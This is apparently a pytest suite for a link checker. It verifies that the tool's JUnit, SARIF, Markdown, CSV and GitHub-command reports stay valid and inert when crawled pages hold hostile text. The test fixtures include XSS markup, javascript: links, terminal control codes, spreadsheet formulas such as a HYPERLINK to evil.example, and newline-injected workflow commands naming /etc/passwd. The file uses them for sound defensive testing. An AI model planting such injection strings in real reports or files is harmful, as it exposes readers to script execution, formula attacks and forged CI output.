"""CI formats (JUnit, SARIF, Markdown, CSV, GitHub commands): valid, complete, and inert.

Every run here comes from a real crawl of a loopback site with a dead link, a permanent and a
temporary redirect, a mailto: link, a dead link on another host, and a page whose anchor texts
and hrefs try to break each format (markup, table pipes, brackets, formulas, control
characters, a line break inside an href). JUnit and SARIF are checked against their published
schemas, vendored in tests/schemas/ (see the README there).
"""

from __future__ import annotations

import csv
import dataclasses
import html
import io
import json
import os
import re
import subprocess
import sys
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from pathlib import Path
from typing import Any, NamedTuple

import jsonschema
import orjson
import pytest
import xmlschema
from markdown_it import MarkdownIt

from linkcheck.config import REPORT_FORMATS
from linkcheck.models import (
    CheckResult,
    Link,
    Occurrence,
    OccurrenceTables,
    RedirectKind,
    RunResult,
    Variant,
    Verdict,
)
from linkcheck.report import RENDERERS, write_reports
from linkcheck.report.advice import explain
from linkcheck.report.csv_report import COLUMNS, render_csv, safe_cell
from linkcheck.report.github import command, escape_data, escape_property, render_github
from linkcheck.report.json_report import _variant_json
from linkcheck.report.junit import render_junit
from linkcheck.report.load import load_run
from linkcheck.report.markdown import MAX_ROWS, escape, render_markdown
from linkcheck.report.sarif import render_sarif
from tests.conftest import crawl
from tests.server import Route, TestServer, page, redirect

SCHEMAS = Path(__file__).parent / "schemas"
DEAD = (Verdict.BROKEN, Verdict.ERROR)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

# Anchor text as the HTML source writes it, and as the crawl reads it (whitespace collapsed).
HOSTILE_SOURCE = (
    "&lt;script&gt;alert(1)&lt;/script&gt; a|b ] [x](javascript:y)\n"
    "`c` *b* _i_ &amp;lt; \x07\x1b[31m\u202eevil"
)
HOSTILE_TEXT = (
    "<script>alert(1)</script> a|b ] [x](javascript:y) `c` *b* _i_ &lt; \x07\x1b[31m\u202eevil"
)


class Site(NamedTuple):
    run: RunResult
    server: TestServer
    other: TestServer

    def url(self, path: str) -> str:
        return self.server.url(path)


@pytest.fixture(scope="module")
def site() -> Iterator[Site]:
    """One crawl for the module; the servers stay up for tests that crawl again."""
    with TestServer({"/": page("elsewhere")}) as other:
        routes: dict[str, Route] = {
            "/": page(
                '<a href="/gone">Gone page</a>\n'
                '<a href="/moved">Moved page</a>\n'
                '<a href="/temp">Temporary</a>\n'
                '<a href="mailto:team@example.com">Mail us</a>\n'
                '<a href="/hostile.html">Hostile</a>\n'
                '<a href="/new">New</a>\n'
                f'<a href="{other.url("/missing")}">Elsewhere</a>\n'
            ),
            "/moved": redirect("/new"),
            "/temp": redirect("/new", 302),
            "/new": page('<a href="/">Home</a>'),
            "/hostile.html": page(
                f'<a href="/nowhere">{HOSTILE_SOURCE}</a>\n'
                f'<a href="/gone">{HOSTILE_SOURCE}</a>\n'
                '<a href="/moved">=HYPERLINK("http://evil.example/"&amp;A1)</a>\n'
                '<a href="=cmd()">+SUM(1,2)</a>\n'
                '<a href="/gone\n::error::pwned">@mention</a>\n'
                '<a href="/nowhere">-1 items</a>\n'
            ),
        }
        with TestServer(routes) as server:
            run = crawl(server.url("/"))
            yield Site(run, server, other)


def render(renderer: Any, run: RunResult, previous: RunResult | None = None) -> str:
    return "".join(renderer(run, previous))


def links_with(run: RunResult, *verdicts: Verdict) -> list[Link]:
    return [link for link in run.links.values() if link.result and link.result.verdict in verdicts]


def occurrences_of(links: list[Link]) -> int:
    return sum(len(link.occurrences) for link in links)


def with_results(run: RunResult, changes: dict[str, CheckResult | None]) -> RunResult:
    """A copy of ``run`` with some results replaced; None drops the link from the run."""
    links = {}
    for url, link in run.links.items():
        result = changes.get(url, link.result)
        if url in changes and result is None:
            continue
        links[url] = Link(url, link.internal, list(link.occurrences), result)
    for url, result in changes.items():
        if url not in run.links and result is not None:
            links[url] = Link(url, True, [], result)
    return dataclasses.replace(run, links=links)


def test_the_site_has_every_case(site: Site) -> None:
    """The fixture's crawl found what the other tests rely on."""
    verdicts = {url: link.result.verdict for url, link in site.run.links.items() if link.result}
    assert verdicts[site.url("/gone")] is Verdict.BROKEN
    assert verdicts[site.url("/nowhere")] is Verdict.BROKEN
    assert verdicts[site.other.url("/missing")] is Verdict.BROKEN
    assert verdicts[site.url("/moved")] is Verdict.REDIRECTED
    assert verdicts[site.url("/temp")] is Verdict.REDIRECTED
    assert verdicts["mailto:team@example.com"] is Verdict.SKIPPED
    assert site.run.complete
    assert all(link.occurrences for link in site.run.links.values())
    texts = {o.text for link in site.run.links.values() for o in link.occurrences}
    assert HOSTILE_TEXT in texts
    hrefs = {o.href for link in site.run.links.values() for o in link.occurrences}
    assert "/gone\n::error::pwned" in hrefs


# --- JUnit -------------------------------------------------------------------------------


def without_testcase_output(tree: ET.ElementTree[ET.Element]) -> ET.ElementTree[ET.Element]:
    """The strict Ant schema predates <system-out> per test case (GitLab and Jenkins read it)."""
    for case in tree.getroot().iter("testcase"):
        for output in case.findall("system-out"):
            case.remove(output)
    return tree


def test_junit_report_is_valid_and_counts_links(site: Site, tmp_path: Path) -> None:
    run = site.run
    (path,) = write_reports(run, ["junit"], tmp_path)
    assert path.name == "report.junit.xml"
    xmlschema.XMLSchema(SCHEMAS / "junit-10.xsd").validate(path)
    xmlschema.XMLSchema(SCHEMAS / "JUnit.xsd").validate(without_testcase_output(ET.parse(path)))

    suite = ET.parse(path).getroot()
    assert suite.tag == "testsuite" and suite.get("name") == "linkcheck"
    assert suite.get("tests") == str(len(run.links))
    assert suite.get("failures") == str(len(links_with(run, *DEAD)))
    assert suite.get("skipped") == "1"  # the mailto: link
    cases = {case.get("name"): case for case in suite.iter("testcase")}
    assert set(cases) == set(run.links)

    gone = cases[site.url("/gone")]
    assert gone.get("classname") == "internal"
    failure = gone.find("failure")
    assert failure is not None and failure.get("type") == "broken"
    assert failure.get("message") == explain(run.links[site.url("/gone")].result)  # type: ignore[arg-type]
    where = gone.findtext("system-out") or ""
    assert f'{site.url("/")} line 1: "Gone page"' in where
    assert f"{site.url('/hostile.html')} line " in where

    assert cases[site.other.url("/missing")].get("classname") == "127.0.0.1"
    mail = cases["mailto:team@example.com"]
    assert mail.get("classname") == "mailto" and mail.find("skipped") is not None
    moved = cases[site.url("/moved")]
    assert moved.find("failure") is None and moved.find("skipped") is None
    assert site.url("/new") in (moved.findtext("system-out") or "")


def test_junit_report_escapes_page_text_and_drops_what_xml_forbids(site: Site) -> None:
    xml = render(render_junit, site.run)
    assert "<script" not in xml
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in xml
    assert "\x07" not in xml and "\x1b" not in xml and "\u202e" not in xml
    assert "U+0007" in xml and "U+202E" in xml  # shown, not obeyed
    ET.fromstring(xml.split("\n", 1)[1])  # well-formed


# --- SARIF -------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def sarif_validator() -> jsonschema.protocols.Validator:
    schema = json.loads((SCHEMAS / "sarif-schema-2.1.0.json").read_text(encoding="utf-8"))
    validator_class = jsonschema.validators.validator_for(schema)
    validator_class.check_schema(schema)
    validator: jsonschema.protocols.Validator = validator_class(
        schema, format_checker=validator_class.FORMAT_CHECKER
    )
    return validator


def assert_valid_sarif(validator: jsonschema.protocols.Validator, document: Any) -> None:
    errors = [f"{list(e.absolute_path)}: {e.message}" for e in validator.iter_errors(document)]
    assert not errors, errors


def test_sarif_report_is_valid_with_one_result_per_occurrence(
    site: Site, sarif_validator: jsonschema.protocols.Validator, tmp_path: Path
) -> None:
    run = site.run
    (path,) = write_reports(run, ["sarif"], tmp_path)
    assert path.name == "report.sarif"
    document = json.loads(path.read_text(encoding="utf-8"))
    assert_valid_sarif(sarif_validator, document)
    assert not sarif_validator.is_valid({**document, "version": "2.0.0"})  # the schema bites

    assert document["$schema"] == "https://json.schemastore.org/sarif-2.1.0.json"
    assert document["version"] == "2.1.0"
    (sarif_run,) = document["runs"]
    driver = sarif_run["tool"]["driver"]
    assert driver["name"] == "linkcheck" and driver["version"]
    rules = [rule["id"] for rule in driver["rules"]]
    assert rules == ["linkcheck/broken", "linkcheck/error", "linkcheck/redirected"]
    for rule in driver["rules"]:
        assert rule["shortDescription"]["text"] and rule["fullDescription"]["text"]
        assert rule["help"]["text"]

    results = sarif_run["results"]
    reported = links_with(run, Verdict.BROKEN, Verdict.ERROR, Verdict.REDIRECTED)
    assert len(results) == occurrences_of(reported)
    for result in results:
        assert rules[result["ruleIndex"]] == result["ruleId"]
        link = run.links[result["properties"]["url"]]
        location = result["locations"][0]["physicalLocation"]
        occurrence = (location["artifactLocation"]["uri"], location["region"]["startLine"])
        assert occurrence in {(o.page, o.line) for o in link.occurrences}
    by_url: dict[str, list[dict[str, Any]]] = {}
    for result in results:
        by_url.setdefault(result["properties"]["url"], []).append(result)

    assert {r["level"] for r in by_url[site.url("/gone")]} == {"error"}
    assert {r["level"] for r in by_url[site.url("/temp")]} == {"note"}
    moved = by_url[site.url("/moved")]
    assert {r["level"] for r in moved} == {"warning"}
    assert all(f"Use {site.url('/new')} instead." in r["message"]["text"] for r in moved)
    first = by_url[site.url("/gone")][0]["message"]["text"]
    assert '"Gone page"' in first and site.url("/gone") in first and "(404)" in first


def test_sarif_messages_are_plain_text_and_fingerprints_stable(
    site: Site, sarif_validator: jsonschema.protocols.Validator
) -> None:
    document = json.loads(render(render_sarif, site.run))
    results = document["runs"][0]["results"]
    hostile = [r["message"]["text"] for r in results if "alert(1)" in r["message"]["text"]]
    assert hostile
    for text in hostile:
        assert "\\[x\\](javascript:y)" in text and "a|b \\]" in text  # no embedded link
        assert "\x07" not in text and "\u202e" not in text and "U+202E" in text

    fingerprints = [r["partialFingerprints"]["linkcheck/v1"] for r in results]
    assert len(set(fingerprints)) == len(fingerprints)
    again = crawl(site.url("/"))  # a second run of the same site
    later = json.loads(render(render_sarif, again))["runs"][0]["results"]
    assert sorted(r["partialFingerprints"]["linkcheck/v1"] for r in later) == sorted(fingerprints)


def test_sarif_records_an_incomplete_crawl(
    site: Site, sarif_validator: jsonschema.protocols.Validator
) -> None:
    partial = crawl(site.url("/"), crawl={"max_depth": 0})
    assert not partial.complete
    document = json.loads(render(render_sarif, partial))
    assert_valid_sarif(sarif_validator, document)
    (invocation,) = document["runs"][0]["invocations"]
    notes = [n["message"]["text"] for n in invocation["toolExecutionNotifications"]]
    assert any("max depth" in note for note in notes)
    assert document["runs"][0]["properties"]["complete"] is False


# --- Markdown ----------------------------------------------------------------------------


def markdown_html(text: str) -> str:
    """Render as a GitHub-flavoured renderer would: CommonMark plus tables and strikethrough."""
    rendered: str = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(text)
    return rendered


def test_markdown_summary_lists_dead_links_and_moves(site: Site) -> None:
    run = site.run
    text = render(render_markdown, run)
    dead = links_with(run, *DEAD)
    assert text.startswith(f"## ❌ linkcheck: {len(dead)} dead links")
    assert "The crawl was complete." in text
    rendered = markdown_html(text)
    assert rendered.count("<tr>") == 1 + len(dead)  # header + one row per dead link
    body = rendered.split("<tbody>", 1)[1].split("</tbody>", 1)[0]
    for row in body.split("</tr>")[:-1]:
        assert row.count("<td") == 4, row
    assert f"replace {escape(site.url('/moved'))} with {escape(site.url('/new'))}" in text
    assert escape(site.url("/temp")) not in text  # temporary redirects are not listed
    assert "since last run" not in text  # no previous run given


def test_markdown_escapes_hostile_page_text(site: Site) -> None:
    text = render(render_markdown, site.run)
    rendered = markdown_html(text)
    for tag in ("<script", "<a ", "<em>", "<strong>", "<code>", "<del>", "<img"):
        assert tag not in rendered, tag
    shown = html.unescape(re.sub(r"<[^>]+>", "", rendered))
    visible_hostile = HOSTILE_TEXT
    for char in "\x07\x1b\u202e":
        visible_hostile = visible_hostile.replace(char, f"\u2039U+{ord(char):04X}\u203a")
    assert visible_hostile in shown  # shown exactly as written, nothing interpreted
    # each raw table row has exactly the five pipes that delimit its four cells
    for line in text.splitlines():
        if line.startswith("| "):
            assert len(re.findall(r"(?<!\\)\|", line)) == 5, line


def test_markdown_escape_keeps_one_line_and_caps_length() -> None:
    assert escape("a\nb\r\n| c") == "a b \\| c"
    assert escape("<b>&amp;</b>") == "&lt;b&gt;&amp;amp;&lt;/b&gt;"
    assert escape("[x](y) `z` *w* _v_ ~u~ \\") == "\\[x\\](y) \\`z\\` \\*w\\* \\_v\\_ \\~u\\~ \\\\"
    assert escape("x" * 100, 10) == "x" * 9 + "…"


def test_markdown_caps_the_dead_link_table(site: Site) -> None:
    many = {
        site.url(f"/dead-{index:03}"): CheckResult(
            site.url(f"/dead-{index:03}"), Verdict.BROKEN, status=404
        )
        for index in range(MAX_ROWS + 7)
    }
    text = render(render_markdown, with_results(site.run, dict(many)))
    dead = len(links_with(site.run, *DEAD)) + len(many)
    assert markdown_html(text).count("<tr>") == 1 + MAX_ROWS
    assert f"…and {dead - MAX_ROWS} more dead links" in text


def test_markdown_lists_new_and_fixed_since_the_previous_run(site: Site) -> None:
    run = site.run
    gone, new, moved = site.url("/gone"), site.url("/new"), site.url("/moved")
    removed = site.url("/removed-since")
    previous = with_results(
        run,
        {
            gone: CheckResult(gone, Verdict.OK, status=200),  # dead now, fine before: new
            new: CheckResult(new, Verdict.BROKEN, status=500),  # fine now: fixed
            moved: CheckResult(moved, Verdict.ERROR),  # redirects now: fixed
            removed: CheckResult(removed, Verdict.BROKEN, status=404),  # gone from the site
            "mailto:team@example.com": CheckResult(
                "mailto:team@example.com", Verdict.BROKEN, status=404
            ),  # not checked now: neither new nor fixed
        },
    )
    text = render(render_markdown, run, previous)
    new_section = text.split("### New since last run", 1)[1].split("### Fixed", 1)[0]
    fixed_section = text.split("### Fixed since last run", 1)[1]
    assert re.findall(r"^- (\S+):", new_section, re.M) == [escape(gone)]
    fixed = dict(re.findall(r"^- (\S+): (.+)$", fixed_section, re.M))
    assert fixed == {
        escape(new): "works now",
        escape(moved): "works now, through a redirect",
        escape(removed): "no longer linked",
    }
    assert "1 earlier dead link not checked again" in fixed_section

    unchanged = render(render_markdown, run, run)
    assert "No new dead links." in unchanged and "No dead link was fixed." in unchanged


def test_markdown_reads_the_previous_run_from_the_output_folder(site: Site, tmp_path: Path) -> None:
    gone = site.url("/gone")
    previous = with_results(site.run, {gone: CheckResult(gone, Verdict.OK, status=200)})
    write_reports(previous, ["json"], tmp_path)
    write_reports(site.run, ["markdown"], tmp_path)
    text = (tmp_path / "report.md").read_text(encoding="utf-8")
    assert f"- {escape(gone)}: " in text.split("### Fixed", 1)[0]


def test_markdown_says_when_the_crawl_was_not_complete(site: Site) -> None:
    partial = crawl(site.url("/"), crawl={"max_depth": 0})
    text = render(render_markdown, partial)
    assert "The crawl was not complete" in text
    assert "max depth" in text


# --- CSV ---------------------------------------------------------------------------------


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_has_one_row_per_occurrence(site: Site, tmp_path: Path) -> None:
    (path,) = write_reports(site.run, ["csv"], tmp_path)
    assert path.name == "report.csv"
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert tuple(rows[0]) == COLUMNS
    assert len(rows) - 1 == occurrences_of(list(site.run.links.values()))
    records = [dict(zip(COLUMNS, row, strict=True)) for row in rows[1:]]
    assert all(len(row) == len(COLUMNS) for row in rows)
    gone = [r for r in records if r["url"] == site.url("/gone")]
    assert {(r["page"], r["line"], r["verdict"], r["status"]) for r in gone} >= {
        (site.url("/"), "1", "broken", "404")
    }
    moved = next(r for r in records if r["url"] == site.url("/moved"))
    assert (moved["final_url"], moved["redirect_kind"]) == (site.url("/new"), "permanent")
    assert any(r["href"] == "/gone\n::error::pwned" for r in records)  # one cell, not a row
    assert moved["message"] == explain(site.run.links[site.url("/moved")].result)  # type: ignore[arg-type]


def test_csv_neutralises_formulas(site: Site) -> None:
    rows = read_csv(render(render_csv, site.run))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), row
    cells = {cell for row in rows for cell in row}
    assert '\'=HYPERLINK("http://evil.example/"&A1)' in cells
    assert {"'=cmd()", "'+SUM(1,2)", "'@mention", "'-1 items"} <= cells


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        ("", ""),
    ],
)
def test_safe_cell(value: str, expected: str) -> None:
    assert safe_cell(value) == expected


# --- GitHub workflow commands ------------------------------------------------------------

COMMAND_LINE = re.compile(r"^::(error|warning) title=(Dead link|Moved link)::[^\r\n]*$")


def test_github_commands_one_per_occurrence(site: Site, tmp_path: Path) -> None:
    run = site.run
    (path,) = write_reports(run, ["github"], tmp_path)
    assert path.name == "report.github.txt"
    text = path.read_text(encoding="utf-8")
    lines = text.split("\n")
    assert lines.pop() == ""  # every line ends with a newline
    permanent = [
        link
        for link in links_with(run, Verdict.REDIRECTED)
        if link.result and link.result.redirect_kind is RedirectKind.PERMANENT
    ]
    dead = links_with(run, *DEAD)
    assert len(lines) == occurrences_of(dead) + occurrences_of(permanent)
    for line in lines:
        assert COMMAND_LINE.match(line), line
    assert "file=" not in text  # pages on the web have no file path
    assert sum(line.startswith("::warning ") for line in lines) == occurrences_of(permanent)
    assert f'::error title=Dead link::{site.url("/")} line 1: link "Gone page" to ' in text
    assert f"Use {site.url('/new')} instead." in text


def test_github_commands_cannot_be_injected(site: Site) -> None:
    gone = site.run.links[site.url("/gone")]
    assert gone.result is not None
    sneaky = "x\n::error::injected\r\n::warning file=/etc/passwd::y%0A"
    forged = gone.occurrences[0]._replace(text=sneaky)
    run = dataclasses.replace(
        site.run,
        links={
            **site.run.links,
            gone.url: Link(gone.url, gone.internal, [forged], gone.result),
        },
    )
    lines = render(render_github, run).split("\n")[:-1]
    for line in lines:
        assert COMMAND_LINE.match(line), line
    assert not any(line.startswith(("::error::", "::warning file")) for line in lines)
    assert "%250A" in "\n".join(lines)  # a literal %0A stays text


def test_github_escaping_follows_the_toolkit() -> None:
    assert escape_data("100%\r\nnext") == "100%25%0D%0Anext"
    assert escape_property("a:b,c%\n") == "a%3Ab%2Cc%25%0A"
    line = command("error", {"title": "Dead: a, b"}, "one\n::warning::two")
    assert line == "::error title=Dead%3A a%2C b::one%0A::warning::two\n"


def test_github_commands_name_a_local_file(
    site: Site, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    page_file = tmp_path / "docs" / "guide.html"
    gone = site.run.links[site.url("/gone")]
    local = Occurrence(page_file.as_uri(), "/gone", "Gone", "a", "href", 7)
    run = dataclasses.replace(
        site.run, links={gone.url: Link(gone.url, True, [local], gone.result)}
    )
    (line,) = render(render_github, run).splitlines()
    assert line.startswith("::error file=docs/guide.html,line=7,title=Dead link::")


# --- all formats -------------------------------------------------------------------------


def test_a_dead_link_on_no_page_is_still_reported(
    site: Site, sarif_validator: jsonschema.protocols.Validator
) -> None:
    """A start URL nobody links to has no occurrence; the formats name it all the same."""
    start = site.url("/start-that-is-gone")
    run = with_results(site.run, {start: CheckResult(start, Verdict.BROKEN, status=404)})
    document = json.loads(render(render_sarif, run))
    assert_valid_sarif(sarif_validator, document)
    (result,) = [r for r in document["runs"][0]["results"] if r["properties"]["url"] == start]
    assert result["locations"][0]["physicalLocation"] == {"artifactLocation": {"uri": start}}
    rows = [row for row in read_csv(render(render_csv, run)) if start in row]
    assert len(rows) == 1 and rows[0][: COLUMNS.index("url")] == [""] * 6
    assert f"::error title=Dead link::{start}: " in render(render_github, run)
    assert "(not written on a crawled page)" in render(render_markdown, run)
    case = ET.fromstring(render(render_junit, run).split("\n", 1)[1])
    assert any(c.get("name") == start for c in case.iter("testcase"))


def test_every_format_is_registered_and_written(site: Site, tmp_path: Path) -> None:
    assert set(REPORT_FORMATS) == set(RENDERERS)
    written = write_reports(site.run, list(REPORT_FORMATS), tmp_path)
    names = {path.name for path in written}
    assert names == {
        "report.html",
        "report.json",
        "report.junit.xml",
        "report.sarif",
        "report.md",
        "report.csv",
        "report.github.txt",
    }
    for path in written:
        assert path.stat().st_size > 0, path
    assert not list(tmp_path.glob(".*.tmp"))


FORKED_WRITERS = """
import os, sys
from linkcheck import report
from linkcheck.report import json_report
from linkcheck.report.load import load_run

saved, output, formats, failing = sys.argv[1:]
parent, forks = os.getpid(), []
real_fork, real_renderer = os.fork, report.renderer

def counting_fork():
    pid = real_fork()
    if pid:
        forks.append(pid)
    return pid

def renderer(fmt):
    if fmt == failing and os.getpid() != parent:
        raise RuntimeError("this writer fails in its forked copy")
    return real_renderer(fmt)

real_spool = json_report._spool_lines

def spool_lines(*args):
    if failing == "json-half":
        raise RuntimeError("the copy writing the second half of the links fails")
    real_spool(*args)

os.fork, report.renderer, json_report._spool_lines = counting_fork, renderer, spool_lines
report.write_reports(load_run(saved), formats.split(","), output)
print(len(forks))
"""


@pytest.mark.skipif(sys.platform != "linux", reason="formats are written by forked copies on Linux")
def test_formats_written_by_forked_copies_are_those_written_one_by_one(
    site: Site, tmp_path: Path
) -> None:
    """In a process with no other thread (the command line's at the end of a run), every
    format after the first is written by a forked copy, at the same time; each file must be
    what writing them one by one gives, and a copy that fails leaves its format to the
    process itself (here the servers' threads keep this test process writing one by one)."""
    (saved,) = write_reports(site.run, ["json"], tmp_path / "saved")
    formats = list(REPORT_FORMATS)
    one_by_one = {
        p.name: p.read_bytes() for p in write_reports(load_run(saved), formats, tmp_path / "one")
    }
    cases = [
        ("none", "forked", formats, len(formats) - 1),  # a copy for each format but the first
        ("csv", "failed", formats, len(formats) - 1),  # csv written here when its copy fails
        ("none", "json", ["json"], 1),  # one format: a copy writes half of the links
        ("json-half", "json-failed", ["json"], 1),  # ...and when it fails, this process
    ]
    for failing, name, written_formats, copies in cases:
        proc = subprocess.run(
            [
                sys.executable,
                "-c",
                FORKED_WRITERS,
                str(saved),
                str(tmp_path / name),
                ",".join(written_formats),
                failing,
            ],
            capture_output=True,
            text=True,
            timeout=60,
            cwd=tmp_path,
            env={**os.environ, "PYTHONPATH": str(Path(__file__).parents[2])},
        )
        assert proc.returncode == 0, proc.stderr
        assert proc.stdout.strip() == str(copies), name
        written = {p.name: p.read_bytes() for p in (tmp_path / name).iterdir()}
        assert written == {n: one_by_one[n] for n in written}, name
        assert len(written) == len(written_formats), name


@pytest.mark.parametrize(
    "variant",
    [
        ("a.html", "plain", "a", "href", ""),
        ("", "", "img", "src", ""),  # every field empty but the tag's
        ('x","y.html', 'say "hi", "bye"', "a", "href", 'f","g'),  # the cut between fields
        ("back\\", "\\", "a", "href", "\\"),  # a field ending in a backslash
        ("\\u0000", "tab\there\nnew line\r\x1f", "a", "href", "x\x00y"),  # controls, NUL
        ("日本語/ページ.html", "配送について 🚚", "a", "href", "見出し"),
        ("</script><b>", "&amp; <i>", "link", "href", "#"),
    ],
)
def test_a_variants_json_is_what_a_json_encoder_writes(variant: Variant) -> None:
    """The JSON report writes each way a link is written once, as the pieces around an
    occurrence's line and page: joined, they must be the bytes an encoder writes for the
    occurrence's object (RFC 8259), whatever the fields hold."""
    tables = OccurrenceTables()
    number = tables.variants.number(variant)
    ((head, tail),) = _variant_json(tables.variants.many([number]))
    href, text, tag, attr, fragment = (field.replace("\x00", "\ufffd") for field in variant)
    written = b'{"page":"p","href":' + head + b"7" + tail
    expected = {"page": "p", "href": href, "text": text, "tag": tag, "attr": attr, "line": 7}
    assert written == orjson.dumps({**expected, "fragment": fragment or None})
    assert json.loads(written) == {**expected, "fragment": fragment or None}
